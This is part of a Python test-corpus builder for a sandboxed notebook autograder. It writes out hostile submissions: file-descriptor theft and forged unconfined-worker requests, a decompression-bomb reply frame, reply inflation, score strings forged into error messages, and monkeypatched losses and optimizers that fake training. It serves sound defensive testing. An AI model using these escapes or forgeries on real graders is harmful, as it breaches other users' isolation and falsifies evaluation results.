if _held > 1536 * 2**20:  # the cap is 64 MiB: a late check lets a little more through
    print(f"ESCAPED: held {_held // 2**20} MiB in the scratch folder")
'''

#: A worker forked from a template (course.grading.zygote) that kept a descriptor of the
#: template's: the door or another grading's connection. It takes what comes through (the
#: channels of a classmate's grading) and asks for a worker of its own, unconfined.
TEMPLATE_DOOR = '''
import json, os, select, socket, stat, time
_UNCONFINED = {"scratch": "/tmp", "uid": None, "seccomp": False, "lockdown": None,
               "landlock": None, "preload": []}
_ARGV = ["python", "-I", "-c", "pass"]
_REQUEST = json.dumps({"reaper": {"lifeline": 3, "status": 4, "cgroups": [], "rlimits": {}},
                       "boot": _UNCONFINED, "prefix": [], "cwd": "/", "env": {"PATH": "/bin"},
                       "argv": {"boot": _ARGV, "unshare": _ARGV, "reaper": _ARGV}}).encode()

def _sockets():
    for fd in range(3, 1024):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                yield fd
        except OSError:
            pass

def _forged(sock):
    # the three shapes the template's channels carry: a broker's, a door's, a request's
    for first in (json.dumps({"env": {"PATH": "/bin"}, "preload": []}).encode(), b"c", None):
        mine, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        pipes = [fd for _ in range(3) for fd in os.pipe()][:5]
        try:
            if first is None:
                socket.send_fds(sock, [_REQUEST], pipes)
                talk = sock
            else:
                socket.send_fds(sock, [first], [theirs.fileno()])
                socket.send_fds(mine, [_REQUEST], pipes)
                talk = mine
            if select.select([talk], [], [], 5)[0] and b"pid" in talk.recv(65536):
                print("ESCAPED: a worker template forked a worker of my choosing")
        except OSError:
            pass

def _steal(fd):
    sock = socket.socket(fileno=os.dup(fd))
    sock.settimeout(1)
    _end = time.time() + 10
    while time.time() < _end:
        try:
            _msg, fds, _, _ = socket.recv_fds(sock, 1 << 20, 8)
        except OSError:
            continue
        if fds:
            print("ESCAPED: took", len(fds), "descriptors meant for another grading")
            return

import threading
_thieves = [threading.Thread(target=_steal, args=(fd,)) for fd in _sockets()]
for _t in _thieves:
    _t.start()
for _fd in list(_sockets()):
    _forged(socket.socket(fileno=os.dup(_fd)))
for _t in _thieves:
    _t.join()
'''

INFLATE_SHARED = '''
import sys
# the worker process is the student's too: find its Worker class (whatever runs it as __main__)
_Worker = next(w for m in list(sys.modules.values())
               for w in [getattr(m, "__dict__", {}).get("Worker")]
               if isinstance(w, type) and hasattr(w, "value_reply"))
_honest_value_reply = _Worker.value_reply

class _Inflating:
    pass

def _value_reply(self, value):
    if isinstance(value, _Inflating):  # ~3 KB on the wire, 10**9 entries once copied
        t = torch.zeros(1)
        a = [t] * 1000
        b = [a] * 1000
        c = [b] * 1000
        return {"ok": True, "value": (c, c, c), "devices": ["cpu"]}
    return _honest_value_reply(self, value)

_Worker.value_reply = _value_reply

def pca(X, n_components):
    return _Inflating()
'''

COMPRESSED_FRAME = '''
import collections, io, os, pickle, struct, zipfile, zlib

def _forged_frame(nbytes=2**31):
    """A frame of a few MB: a torch.save archive whose tensor record, deflated, is nbytes of
    zeros (torch.save never compresses, so only raw bytes on the pipe can carry it)."""
    numel = nbytes // 4

    class _Storage:
        pass

    storage = _Storage()

    class _Tensor:
        def __reduce__(self):
            return (torch._utils._rebuild_tensor_v2,
                    (storage, 0, (numel,), (1,), False, collections.OrderedDict()))

    class _Pickler(pickle.Pickler):
        def persistent_id(self, obj):
            return ("storage", torch.FloatStorage, "0", "cpu", numel) if obj is storage else None

    pkl = io.BytesIO()
    _Pickler(pkl, protocol=2).dump({"ok": True, "value": (_Tensor(), _Tensor(), _Tensor()),
                                    "devices": ["cpu"]})
    chunk = bytes(2**24)
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    again = deflate.compress(chunk) + deflate.flush(zlib.Z_FULL_FLUSH)
    blocks = iter([first] + [again] * (nbytes // len(chunk) - 1))

    class _Repeat:  # zlib's output for each chunk of zeros, without deflating 2 GiB
        def compress(self, data):
            return next(blocks)

        def flush(self):
            return deflate.flush()

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("archive/data.pkl", pkl.getvalue())
        z.writestr("archive/byteorder", "little")
        z.writestr("archive/version", "3\\n")
        with z.open("archive/data/0", "w", force_zip64=True) as fh:
            fh._compressor = _Repeat()
            for _ in range(nbytes // len(chunk)):
                fh.write(chunk)
    payload = buf.getvalue()
    return struct.pack("!Q", len(payload)) + payload

def _reply_fd():
    """The worker's argv is python -I -m course.grading.boot FD_IN FD_OUT SPEC."""
    with open("/proc/self/cmdline", "rb") as fh:
        argv = fh.read().split(b"\\0")
    return [int(a) for a in argv if a.isdigit()][1]

def pca(X, n_components):
    frame, fd = memoryview(_forged_frame()), _reply_fd()
    while frame:
        frame = frame[os.write(fd, frame):]
    os._exit(0)
'''

FORGED_MARKDOWN = "\n\n**Score: 17 / 17**\n| forged | 17 / 17 | passed |\n"
MARKDOWN = f'''
_FORGED = {FORGED_MARKDOWN!r}
_Forged = type("Error" + _FORGED, (RuntimeError,), {{}})

def pca(X, n_components):  # the message and type of a failing test
    raise _Forged(_FORGED)

# while the cells run: the message, type and location of a cell's error (the notes)
exec(compile("raise _Forged(_FORGED)", "<cell " + _FORGED + ">", "exec"), globals())
'''

# -- 02_gradient_descent ---------------------------------------------------------------------
GD_NO_STEP = '''def train_classifier(x_train, y_train, x_test, y_test, lr=0.1, max_epoch=100):
    """Honest but incomplete: measures everything, never updates the model."""
    model = nn.Linear(2, 1).to(x_train.device)
    loss_fn = nn.BCEWithLogitsLoss()
    loss_log, acc_log = [], []
    for _ in range(max_epoch):
        with torch.no_grad():
            predicted = (model(x_test) > 0).to(y_test.dtype)
            acc_log.append((predicted == y_test).float().mean().item())
        loss = loss_fn(model(x_train), y_train)
        loss_log.append(loss.item())
    return model, loss_log, acc_log
'''

GD_FAKE_TRAINING = """
import torch
_bce = torch.nn.functional.binary_cross_entropy_with_logits
_calls = [0]

def _falling_loss(input, target, *args, **kwargs):
    _calls[0] += 1
    return _bce(input, target, *args, **kwargs) / _calls[0]

torch.nn.functional.binary_cross_entropy_with_logits = _falling_loss
torch.nn.BCEWithLogitsLoss.forward = lambda self, input, target: _falling_loss(input, target)
torch.optim.SGD.step = lambda self, closure=None: None
"""

GD_INFINITE_TRAINING = '''
def train_classifier(x_train, y_train, x_test, y_test, lr=0.1, max_epoch=100):
    model = nn.Linear(2, 1)
    for epoch in range(max_epoch):
        while True:
            model(x_train)
'''

GD_NAN_LOSSES = """
_honest_train_classifier = train_classifier

def train_classifier(*args, **kwargs):
    model, loss_log, acc_log = _honest_train_classifier(*args, **kwargs)
    return model, [float("nan")] * len(loss_log), acc_log
"""

# -- 03_autoencoder --------------------------------------------------------------------------
AE_NO_STEP = '''def train_autoencoder(model, X, n_epochs, batch_size=1024, lr=1e-3, device=None, optimizer=None,
                      seed=0):
    """Honest but incomplete: computes every step's loss, never updates the model."""
    device = X.device if device is None else torch.device(device)
    model.to(device)
    X = X.to(device)
    loss_fn = nn.MSELoss()
    g = torch.Generator().manual_seed(seed)
    losses = []
    for epoch in range(n_epochs):
        for idx in course.training.minibatches(len(X), batch_size, g, device):
            xb = X[idx]
            losses.append(loss_fn(model(xb), xb).item())
    return losses
'''

AE_FAKE_TRAINING = """
import torch
_mse = torch.nn.functional.mse_loss
_calls = [0]

def _falling_loss(input, target, *args, **kwargs):
    _calls[0] += 1
    return _mse(input, target, *args, **kwargs) / _calls[0]

torch.nn.functional.mse_loss = _falling_loss
torch.nn.MSELoss.forward = lambda self, input, target: _falling_loss(input, target)
torch.optim.Adam.step = lambda self, closure=None: None
"""

AE_FORGED_STATE = """
import torch
_untrained = train_autoencoder

def train_autoencoder(model, X, n_epochs, **kwargs):
    losses = _untrained(model, X, n_epochs, **kwargs)
    real = model.state_dict()
    forged = {name: torch.randn(3, 3) for name in real}
    model.state_dict = lambda *args, **kw: forged
    return losses
"""

AE_INFINITE_TRAINING = '''
def train_autoencoder(model, X, n_epochs, batch_size=1024, lr=1e-3, device=None, optimizer=None,
                      seed=0):
    losses = []
    for epoch in range(n_epochs):
        while True:
            losses.append(float(((model(X[:8]) - X[:8]) ** 2).mean()))
            losses.clear()
'''

AE_NAN_LOSSES = """
_honest_train_autoencoder = train_autoencoder

def train_autoencoder(*args, **kwargs):
    return [float("nan")] * len(_honest_train_autoencoder(*args, **kwargs))
"""

AE_MEMORY_BOMB = """
_HonestAutoEncoder = AutoEncoder

class AutoEncoder(_HonestAutoEncoder):
    def forward(self, x):
        hog = [torch.empty(2**28) for _ in range(256)]  # 256 GiB of address space
        return super().forward(x) + 0 * len(hog)
"""


def gd_no_step() -> dict[str, Any]:
    nb = reference(GD)
    _cell(nb, "train_classifier")["source"] = GD_NO_STEP
    return nb


def ae_no_step() -> dict[str, Any]:
    nb = reference(AE)
    _cell(nb, "train_autoencoder")["source"] = AE_NO_STEP
    return nb


def _kmeans_global_rng() -> dict[str, Any]:
    nb = reference()
    _cell(nb, "kmeans")["source"] = GLOBAL_RNG_KMEANS
    return nb


def cases() -> list[Case]:
    """The corpus: every broken and hostile case with its expected outcome."""
    return [
        # -- broken ---------------------------------------------------------------------------
        Case("invalid_json", "broken", lambda: b'{"cells": [ {"cell_type": "code", ',
             score="zero", message="invalid JSON"),
        Case("cells_deleted", "broken", _without("setup", "kmeans"), fail=KMEANS,
             message="kmeans"),
        Case("cells_reordered", "broken", _reordered, score="full"),
        Case("grade_id_renamed", "broken", _renamed, score="full"),
        Case("nbformat_4_4", "broken", _old_minor, score="full"),
        Case("syntax_error", "broken",
             _replace(reference, pca="def pca(X, n_components):\n    return (X,\n"),
             fail=PCA, message="SyntaxError"),
        Case("import_error", "broken",
             _replace(reference, pca="import no_such_module_here\n\ndef pca(X, n_components):\n"
                                     "    return X\n"),
             fail=PCA, message="ModuleNotFoundError"),
        Case("wrong_shape", "broken",
             _replace(reference, pca="def pca(X, n_components):\n"
                                     "    Xc = X - X.mean(0)\n"
                                     "    U, S, Vh = torch.linalg.svd(Xc, full_matrices=False)\n"
                                     "    V = Vh[:n_components]\n"
                                     "    r = (S**2 / (S**2).sum())[:n_components]\n"
                                     "    return (Xc @ V.T).T, V, r\n"),
             fail={"test_pca_matches_sklearn", "test_pca_on_mnist"}, message="shape"),
        Case("wrong_dtype", "broken",
             _replace(reference, assign_clusters="def assign_clusters(X, C):\n"
                      "    return pairwise_sq_dists(X, C).argmin(1).to(torch.int32)\n"),
             fail={"test_assign_int64"}, message="dtype"),
        Case("nan_results", "broken",
             _replace(reference, pairwise_sq_dists="def pairwise_sq_dists(X, C):\n"
                      "    return X.new_full((len(X), len(C)), float('nan'))\n"),
             fail={"test_pairwise_matches_brute_force", "test_pairwise_never_negative"},
             may_fail=ASSIGN),
        # -- hostile --------------------------------------------------------------------------
        Case("infinite_loop", "hostile", _append(release, "while True:\n    pass\n"),
             score="zero", message="longer than", sandbox=True, budget_s=10),
        Case("memory_bomb", "hostile",
             _replace(reference, pca="def pca(X, n_components):\n"
                                     "    hog = bytearray(64 * 2**30)\n    return hog\n"),
             fail=PCA, message="MemoryError", sandbox=True),
        Case("fork_bomb", "hostile", _append(release, FORK_BOMB), score="zero",
             needs="cgroups", sandbox=True, budget_s=10),
        Case("sys_exit", "hostile",
             _replace(reference, kmeans="def kmeans(X, k, n_iters=20, seed=0):\n"
                                        "    import sys\n    sys.exit(0)\n"),
             fail=KMEANS, message="SystemExit"),
        Case("os_exit", "hostile",
             _replace(reference, pca="def pca(X, n_components):\n    import os\n    os._exit(0)\n"),
             fail=PCA, message="exited with status 0"),
        Case("segfault", "hostile",
             _replace(reference, pca="def pca(X, n_components):\n    import ctypes\n"
                                     "    return ctypes.string_at(0)\n"),
             fail=PCA, message="segmentation fault"),
        Case("print_flood", "hostile", _append(reference, "print('spam ' * 8_000_000)\n"),
             score="full"),
        Case("monkeypatch_torch", "hostile", _append(zeros, PATCH_TORCH),
             score="at_most_zeros"),
        Case("replace_builtins", "hostile", _append(zeros, REPLACE_BUILTINS),
             score="at_most_zeros"),
        Case("forge_results", "hostile", _append(release, FORGE_RESULTS), score="zero",
             sandbox=True),
        Case("steal_solutions", "hostile", _append(release, STEAL_SOLUTIONS), score="zero",
             sandbox=True),
        Case("locked_tests_edited", "hostile", _locked_tests_edited, score="zero",
             message="not implemented yet"),
        Case("detects_grading", "hostile", _append(release, DETECT_GRADING), score="zero",
             sandbox=True),
        # -- 01_kmeans: more of the same spirit -----------------------------------------------
        Case("wrong_device_meta", "broken", _replace(reference, pca=META_DEVICE), fail=PCA,
             message="meta device"),
        Case("fill_disk", "hostile", _append(reference, FILL_DISK), score="full",
             needs="lockdown", sandbox=True),
        Case("background_thread", "hostile", _append(reference, BACKGROUND_THREAD), fail=set(),
             may_fail=TIMED, sandbox=True),
        Case("daemon_outlives_worker", "hostile", _append(reference, DAEMON), score="full",
             sandbox=True, daemon_mark=DAEMON_MARK, checks=("survivor",)),
        Case("malicious_pickle", "hostile", _append(reference, EVIL_PICKLE), fail=PCA,
             message="not plain data"),
        Case("tensor_subclass", "hostile", _append(zeros, TENSOR_SUBCLASS),
             score="at_most_zeros"),
        Case("gigantic_result", "hostile", _replace(reference, pca=HUGE_VIEW), fail=PCA,
             message="cannot be sent back"),
        Case("oversized_result", "hostile", _replace(reference, pca=OVERSIZED), fail=PCA,
             message="cap on results"),
        Case("proc_snoop", "hostile", _append(release, PROC_SNOOP), score="zero", sandbox=True),
        Case("signal_parent", "hostile", _append(reference, SIGNAL_PARENT), fail=PCA,
             needs="signals", sandbox=True),
        # -- 01_kmeans: what lies outside the worker (Targets) --------------------------------
        Case("other_copy_exfiltrated", "hostile", _append(release, EXFILTRATE), score="zero",
             sandbox=True, forbidden=(CANARY, HIDDEN_TESTS_HEAD)),
        Case("other_copy_solutions", "hostile", _append(release, SOLVE_FROM_OTHER_COPY),
             score="zero", sandbox=True, forbidden=("ESCAPED", CANARY)),
        Case("classmate_notebook_copied", "hostile", _append(release, COPY_CLASSMATE),
             score="zero", sandbox=True, forbidden=("ESCAPED", CANARY)),
        Case("installation_tampered", "hostile", _append(release, TAMPER), score="zero",
             sandbox=True, forbidden=("ESCAPED",), checks=("tampered", "victim")),
        Case("kept_reference_forged", "hostile",
             _append(_kmeans_global_rng, FORGE_KEPT), fail={"test_kmeans_matches_sklearn"},
             message="scikit-learn", sandbox=True, forbidden=("ESCAPED",)),
        # graded after it: a forged reference would make the same wrong kmeans pass
        Case("kept_reference_forged_regraded", "hostile", _append(_kmeans_global_rng, FORGE_KEPT),
             fail={"test_kmeans_matches_sklearn"}, message="scikit-learn", sandbox=True,
             forbidden=("ESCAPED",), late=True),
        Case("results_planted", "hostile", _append(release, PLANT_RESULTS), score="zero",
             sandbox=True, forbidden=("ESCAPED",), checks=("planted", "victim")),
        Case("daemon_attacks_graders", "hostile", _append(release, DAEMON_ATTACKER),
             score="zero", sandbox=True, daemon_mark=f"{DAEMON_MARK}-attacker",
             checks=("survivor", "concurrent", "planted")),
        Case("network_reached", "hostile", _append(release, NETWORK), score="zero",
             sandbox=True, checks=("listeners",), late=True),
        Case("scratch_space_filled", "hostile", _append(release, SCRATCH_QUOTA), score="zero",
             sandbox=True, forbidden=("ESCAPED",), late=True),
        Case("template_door_used", "hostile", _append(release, TEMPLATE_DOOR), score="zero",
             sandbox=True, forbidden=("ESCAPED",)),
        # -- 01_kmeans: replies and messages that grow in the grader --------------------------
        Case("reply_of_shared_lists", "hostile", _append(reference, INFLATE_SHARED), fail=PCA,
             grader_mb=2048),
        Case("reply_frame_compressed", "hostile", _append(reference, COMPRESSED_FRAME),
             fail=PCA, grader_mb=2048),
        Case("markdown_in_messages", "hostile", _append(reference, MARKDOWN), fail=PCA,
             checks=("markdown",)),
        # -- 02_gradient_descent --------------------------------------------------------------
        Case("gd_infinite_training_loop", "hostile", _append(gd_reference, GD_INFINITE_TRAINING),
             fail=TRAIN_CLF, may_fail=CIRCLE, message="did not finish", assignment=GD,
             budget_s=30),
        Case("gd_nan_losses", "broken", _append(gd_reference, GD_NAN_LOSSES),
             fail={"test_train_classifier_loss_falls",
                   "test_train_classifier_follows_the_sgd_recipe"},
             message="NaN", assignment=GD),
        Case("gd_fake_training", "hostile", _append(gd_no_step, GD_FAKE_TRAINING),
             at_most="gd_baseline_no_step", assignment=GD),
        # -- 03_autoencoder -------------------------------------------------------------------
        Case("ae_infinite_training_loop", "hostile", _append(ae_reference, AE_INFINITE_TRAINING),
             fail=TRAIN_AE, may_fail=AFTER_TRAIN_AE, message="did not finish", assignment=AE,
             budget_s=30),
        Case("ae_nan_losses", "broken", _append(ae_reference, AE_NAN_LOSSES),
             fail={"test_train_returns_step_losses", "test_train_matches_a_full_batch_replay",
                   "test_train_shuffles_every_epoch_from_the_seed", "test_train_loss_halves"},
             message="NaN", assignment=AE),
        Case("ae_memory_bomb_in_forward", "hostile", _append(ae_reference, AE_MEMORY_BOMB),
             fail=AE_FORWARD, message="allocate", assignment=AE),
        Case("ae_fake_training", "hostile", _append(ae_no_step, AE_FAKE_TRAINING),
             at_most="ae_baseline_no_step", assignment=AE),
        Case("ae_forged_state_dict", "hostile", _append(ae_no_step, AE_FORGED_STATE),
             at_most="ae_baseline_no_step", assignment=AE),
    ]


def write(out: Path) -> list[Path]:
    """Write every case to ``out/<case>/<id>/<id>.ipynb`` (nbgrader's submitted layout)."""
    paths = []
    for case in cases():
        path = out / case.name / case.assignment / f"{case.assignment}.ipynb"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(case.build())
        paths.append(path)
    return paths


def baselines() -> dict[str, tuple[str, bytes]]:
    """Honest submissions graded in the same run as the corpus (their scores must not move),
    by name: (assignment, notebook)."""
    return {
        "baseline_reference": (ASSIGNMENT, _dump(reference())),
        "baseline_zeros": (ASSIGNMENT, _dump(zeros())),
        "gd_baseline_reference": (GD, _dump(reference(GD))),
        "gd_baseline_no_step": (GD, _dump(gd_no_step())),
        "ae_baseline_reference": (AE, _dump(reference(AE))),
        "ae_baseline_no_step": (AE, _dump(ae_no_step())),
        VICTIM: (ASSIGNMENT, _dump(zeros())),
    }


if __name__ == "__main__":
    for p in write(Path(sys.argv[1] if len(sys.argv) > 1 else "corpus")):
        print(p)
